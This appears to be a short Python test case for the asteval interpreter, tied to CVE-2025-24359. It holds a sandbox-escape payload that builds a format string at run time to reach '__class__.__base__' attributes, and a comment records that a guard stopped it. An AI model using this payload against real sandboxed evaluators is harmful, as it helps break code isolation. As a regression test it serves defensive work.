# goal: asteval CVE-2025-24359: attribute access in a format string built at run time
# stopped by: guard
fmt = '{' + '0.' + '__class__' + '.' + '__base__' + '}'
LEAKED = ['ESCAPED: ' + fmt.format(1)]
LEAKED
